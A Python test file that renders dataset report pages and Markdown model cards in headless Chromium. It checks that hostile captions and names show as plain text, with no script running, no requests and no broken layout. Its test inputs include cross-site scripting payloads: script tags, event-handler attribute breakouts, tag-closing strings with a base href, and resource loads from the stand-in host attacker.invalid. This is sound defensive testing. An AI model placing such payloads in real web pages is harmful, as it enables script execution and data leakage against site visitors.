"""Hostile texts in pages and cards, as a browser shows them: no script runs, no request goes out, no layout breaks."""

import json
import re
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import markdown_it
import pytest

from dataset_builder.building import reading
from dataset_builder.pipeline import build
from dataset_builder.recipe import BuildRecipe
from model_cards.report import write_report
from tests.dataset_builder.captioning.test_injection import FILTERS
from tests.dataset_builder.made.captioned_tiles import HOSTILE, NoWord, row, stage_of, write
from tests.model_cards.test_report import demo  # noqa: F401

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
QUIET = ("--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking")
QUIET += ("--disable-component-update", "--disable-sync", "--disable-default-apps", "--disable-dev-shm-usage")
ASKED = "attacker.invalid"
OWN = "document.documentElement.dataset.owned='yes'"
OURS = (
    f"<script>{OWN}</script>",
    f'<img src=x onerror="{OWN}"><svg onload="{OWN}">',
    f"<img src=http://{ASKED}/a.png><link rel=stylesheet href=//{ASKED}/a.css><iframe src=http://{ASKED}/b></iframe>",
    f"</style></title></textarea></blockquote></dd></table><base href=http://{ASKED}/><script src=c.js></script>",
    f'" style="background:url(http://{ASKED}/d)" onfocus="{OWN}" autofocus tabindex=1 x="',
    f"' onmouseover='{OWN}' &#60;script&#62;{OWN}&#60;/script&#62; \\u003cscript\\u003e{OWN}",
    f"![x](http://{ASKED}/e.png) <http://{ASKED}/f> [x]: http://{ASKED}/g",
    "W" * 3000,
    "\u0645\u0631\u062d\u0628\u0627 " * 40 + "a\u0301\u0302\u0303" * 300,
    "x\n" * 200 + "\t" * 50,
)
ATTACKS = (*HOSTILE, *OURS)
MEASURE = """<!doctype html><meta charset=utf-8>
<iframe id=page style="width:%dpx;height:900px;border:0" src="%s"></iframe>
<pre id=found></pre><script>
page.onload = () => setTimeout(() => {
  const root = page.contentDocument.documentElement, wide = root.clientWidth + 1;
  const box = part => part.getBoundingClientRect(), part_names = "h1,h2,h3,figure,header";
  found.textContent = JSON.stringify({
    owned: root.dataset.owned || "", too_wide: Math.max(0, root.scrollWidth - wide),
    outside: [...page.contentDocument.querySelectorAll(part_names)].filter(
      part => box(part).left < -1 || box(part).right > wide).map(part => part.outerHTML.slice(0, 80)),
    parts: page.contentDocument.querySelectorAll("*").length,
  });
}, 300);
</script>"""
pytestmark = [pytest.mark.slow, pytest.mark.skipif(BROWSER is None, reason="there is no Chromium here")]


def shown(page: Path, width: int = 1200) -> tuple[dict, set[str]]:
    """Opens a page in a browser; returns what is measured in it, and the addresses that were asked for."""
    frame, log = page.with_suffix(".frame.html"), page.with_suffix(".log")
    frame.write_text(MEASURE % (width, page.name), encoding="utf-8")
    folder = f"--user-data-dir={page.parent / 'browser'}"
    options = (*QUIET, "--allow-file-access-from-files", "--virtual-time-budget=5000", folder, f"--log-net-log={log}")
    done = subprocess.run(
        [BROWSER, *options, "--host-resolver-rules=MAP * ~NOTFOUND", "--dump-dom", frame.as_uri()],
        capture_output=True,
        text=True,
        timeout=180,
    )
    found = re.search(r'<pre id="found">(\{.*?\})</pre>', done.stdout, re.DOTALL)
    assert found, done.stdout[-500:] + done.stderr[-500:]
    return json.loads(found[1].replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")), requests(log)


def requests(log: Path) -> set[str]:
    """Addresses of a browser's log of its network that a page has asked for."""
    return {address for address in re.findall(r'"url":"([^"]+)"', log.read_text(errors="replace")) if ASKED in address}


def report_of(demo, texts, path: Path) -> Path:  # noqa: F811
    pair, item, hit = demo.pairs[0], demo.captions[0], demo.hits[0]
    candidates = [replace(hit.candidates[0], item=text) for text in texts]
    write_report(
        path,
        replace(
            demo,
            dataset=replace(demo.dataset, scenes=list(texts), quarantined=dict.fromkeys(texts, 3)),
            pairs=[replace(pair, sample_id=text, sensor=text, captions=[text], ir_captions=[text]) for text in texts],
            captions=[replace(item, sample_id=t, reference=t, generated=t, facts={t: True}) for t in texts],
            hits=[replace(hit, query=text, candidates=candidates) for text in texts],
        ),
    )
    return path


def test_a_page_without_care_is_found_out(tmp_path):
    page = tmp_path / "page.html"
    page.write_text(f"<!doctype html><meta charset=utf-8><h1>{'<p>'.join(OURS)}</h1>", encoding="utf-8")
    found, asked = shown(page)
    assert found["owned"] == "yes" and found["too_wide"] and asked


@pytest.mark.parametrize("width", [1200, 400])
def test_the_page_of_the_demo_shows_hostile_texts_as_texts(demo, tmp_path, width):  # noqa: F811
    plain, _ = shown(
        report_of(demo, [f"plain {index}" for index in range(len(ATTACKS))], tmp_path / "plain.html"), width
    )
    found, asked = shown(report_of(demo, ATTACKS, tmp_path / "index.html"), width)
    assert found == plain == {"owned": "", "too_wide": 0, "outside": [], "parts": plain["parts"]} and not asked


def test_a_card_as_markdown_shows_hostile_texts_as_texts(tmp_path, monkeypatch):
    def say(known):
        index = int(known["sample_id"][-3:])
        return [ATTACKS[index % len(ATTACKS)], f"reject {ATTACKS[(index + 1) % len(ATTACKS)]}"]

    names = ("source_dataset", "source_locator", "sensor")
    write(
        tmp_path,
        [
            row(index, sample_id=f"{text[:300]}/{index:03d}", captions=[text], **dict.fromkeys(names, text[:300]))
            for index, text in enumerate(ATTACKS * 2)
        ],
    )
    monkeypatch.setattr(reading, "make_caption_stage", lambda recipe: stage_of(say, NoWord("reject")))
    given = {
        "name": f"{ATTACKS[12]} {ATTACKS[14]}",
        "attribution": {text[:300]: "nobody" for text in ATTACKS},
        "sources": [{"kind": "repository", "path": "data"}],
        "caption": {},
        "filters": FILTERS,
        "groups": {"relations": ["bytes"]},
    }
    build(BuildRecipe.from_mapping(given, base=tmp_path), tmp_path / "out", workers=1)
    text = (tmp_path / "out" / "README.md").read_text(encoding="utf-8").split("\n---\n", 1)[1]
    assert "attacker" in text
    style = (
        "<style>body, td, th { overflow-wrap: anywhere } table { display: block; overflow: auto }</style>"  # the Hub's
    )
    html = markdown_it.MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
    (tmp_path / "card.html").write_text(f"<!doctype html><meta charset=utf-8>{style}{html}", encoding="utf-8")
    found, asked = shown(tmp_path / "card.html")
    assert (found["owned"], found["too_wide"], found["outside"]) == ("", 0, []) and not asked
